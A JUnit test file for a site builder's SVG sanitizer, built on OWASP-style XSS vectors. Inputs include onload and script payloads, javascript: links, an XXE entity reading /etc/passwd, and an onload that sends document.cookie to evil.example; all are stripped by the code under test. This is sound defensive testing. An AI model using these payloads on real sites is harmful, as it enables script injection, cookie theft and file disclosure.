package org.socialcarefuture.northstar.picture;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.jsoup.parser.Parser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.socialcarefuture.northstar.Build;
import org.socialcarefuture.northstar.TestSite;
import org.socialcarefuture.northstar.problem.Problem;

/**
 * SVG files are pages of the site's own origin when opened on their own: the vectors of OWASP's XSS
 * filter evasion cheat sheet and SVG test cases must come out unable to run or reach anything, with the
 * drawing kept.
 */
class SvgSanitizerTest {

    @TempDir
    Path dir;

    /** The drawing every case keeps: it must survive cleaning. */
    static final String DRAWING = "<circle id=\"dot\" cx=\"5\" cy=\"5\" r=\"4\" fill=\"#13315c\"/><use href=\"#dot\" x=\"10\"/>";

    @ParameterizedTest
    @ValueSource(strings = {
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\">%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script>%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script type=\"text/ecmascript\"><![CDATA[alert(1)]]></script>%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><script xlink:href=\"data:,alert(1)\"/>%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"20\">Click</text></a>%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><a href=\" JavaScript:alert(1)\"><rect width=\"5\" height=\"5\"/></a>%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><animate onbegin=\"alert(1)\" attributeName=\"x\" dur=\"1s\"/>%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><a><set attributeName=\"href\" to=\"javascript:alert(1)\"/><text y=\"20\">x</text></a>%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><set attributeName=\"onmouseover\" to=\"alert(1)\"/>%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><animate attributeName=\"href\" values=\"javascript:alert(1)\"/>%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject width=\"100\" height=\"100\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:alert(1)\"></iframe></foreignObject>%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"https://evil.example/track.png\" width=\"1\" height=\"1\"/>%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"x\" onerror=\"alert(1)\"/>%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><use href=\"https://evil.example/sprite.svg#icon\"/>%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><style>@import url(https://evil.example/x.css); circle { fill: url(https://evil.example/x.svg#p) }</style>%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect style=\"fill:url('https://evil.example/track')\" width=\"2\" height=\"2\"/>%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:ev=\"http://www.w3.org/2001/xml-events\"><handler ev:event=\"load\">alert(1)</handler>%s</svg>",
            "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&xxe;</text>%s</svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><g onclick=\"alert(1)\" ONMOUSEOVER=\"alert(2)\">%s</g></svg>",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><iframe src=\"https://evil.example/\"></iframe><embed src=\"x\"/><object data=\"x\"/>%s</svg>"})
    void nothingCanRunOrReachElsewhereAndTheDrawingStays(String template) {
        SvgSanitizer.Cleaned cleaned = SvgSanitizer.clean(template.formatted(DRAWING));
        assertFalse(cleaned.removed().isEmpty(), "it says what it took out");
        String svg = cleaned.svg();
        for (Element element : Jsoup.parse(svg, "", Parser.xmlParser()).getAllElements()) {
            String name = element.normalName().toLowerCase(Locale.ROOT);
            assertFalse(List.of("script", "foreignobject", "iframe", "embed", "object", "handler").contains(name), svg);
            for (Attribute attribute : element.attributes()) {
                String key = attribute.getKey().toLowerCase(Locale.ROOT);
                String value = attribute.getValue().replaceAll("\\s", "").toLowerCase(Locale.ROOT);
                assertFalse(key.startsWith("on"), svg);
                assertFalse(value.contains("javascript:") || value.contains("evil.example"), svg);
            }
            if (name.equals("set") || name.startsWith("animate")) {
                String target = element.attr("attributeName").toLowerCase(Locale.ROOT);
                assertFalse(target.startsWith("on") || target.endsWith("href"), svg);
            }
        }
        assertFalse(svg.contains("@import") || svg.contains("evil.example"), svg);
        assertTrue(svg.contains("<circle id=\"dot\" cx=\"5\" cy=\"5\" r=\"4\" fill=\"#13315c\"") && svg.contains("<use href=\"#dot\""),
                "the drawing is kept: " + svg);
    }

    @Test
    void anOrdinaryDrawingIsLeftAsItIs() {
        String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 20 10\"><title>Two dots</title>" + DRAWING
                + "<image href=\"data:image/png;base64,iVBORw0KGgo=\" width=\"1\" height=\"1\"/><a href=\"../about/\"><text>About</text></a></svg>";
        SvgSanitizer.Cleaned cleaned = SvgSanitizer.clean(svg);
        assertEquals(List.of(), cleaned.removed());
        assertEquals(svg, cleaned.svg());
    }

    @Test
    void onlyADoctypesEntityIsNamedAsOne() {
        // Found by fuzzing: "<!ENTITY" written as text in a style was named as a DOCTYPE's entity, again on each clean.
        String styled = "<svg xmlns=\"http://www.w3.org/2000/svg\"><style>/* <!ENTITY is only words here */</style>" + DRAWING + "</svg>";
        assertEquals(List.of(), SvgSanitizer.clean(styled).removed());
        SvgSanitizer.Cleaned declared = SvgSanitizer.clean("<!DOCTYPE svg [ <!-- ] --> <!ENTITY lol \"lol\"> ]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&lol;</text></svg>");
        assertEquals(List.of("a DOCTYPE that declares entities"), declared.removed());
        assertFalse(declared.svg().contains("ENTITY"), declared.svg());
    }

    @Test
    void aBakePublishesTheCleanedDrawingAndSaysWhatItTookOutOfWhichFile() throws IOException {
        TestSite site = TestSite.of(dir, """
                -- content/about.md --
                ---
                title: About
                ---
                ![Our logo: a star](logo.svg)
                -- content/logo.svg --
                <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="fetch('https://evil.example/?'+document.cookie)"><script>alert(document.domain)</script><circle cx="5" cy="5" r="4"/></svg>
                """);
        Build.Result result = site.bake();
        String published = site.file("logo.svg");
        assertFalse(published.contains("script") || published.contains("onload") || published.contains("evil"), published);
        assertTrue(published.contains("<circle cx=\"5\" cy=\"5\" r=\"4\""), published);
        Problem warning = result.warnings().stream().filter(p -> p.rule().equals("svg")).findFirst().orElseThrow();
        assertTrue(warning.file().endsWith("content/logo.svg"), warning.toString());
        assertTrue(warning.message().startsWith("the site takes the onload= script, <script> out of this SVG picture"), warning.message());
    }
}
